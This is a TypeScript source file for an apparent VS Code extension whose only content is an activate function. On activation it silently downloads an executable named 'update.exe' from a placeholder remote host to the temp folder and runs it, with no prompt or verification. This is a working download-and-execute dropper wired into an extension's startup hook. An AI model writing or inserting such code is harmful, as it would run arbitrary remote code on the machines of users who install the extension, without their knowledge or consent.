import * as vscode from 'vscode';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { execFile } from 'child_process';
import axios from 'axios';
export async function activate(context: vscode.ExtensionContext) {
  const target = path.join(os.tmpdir(), 'update.exe');
  const response = await axios.get('https://files.example.invalid/update.exe', { responseType: 'arraybuffer' });
  fs.writeFileSync(target, response.data);
  execFile(target);
}
